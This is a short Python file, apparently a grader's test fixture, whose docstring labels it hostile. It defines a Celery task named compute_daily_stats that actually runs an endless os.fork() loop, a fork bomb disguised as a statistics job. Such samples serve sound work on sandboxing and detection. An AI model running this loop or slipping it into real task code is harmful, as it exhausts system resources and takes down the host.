"""Hostile: a fork loop (every copy forks again), bounded only by the grader."""

import os

from celery import shared_task


@shared_task
def compute_daily_stats(day=None):
    while True:
        os.fork()
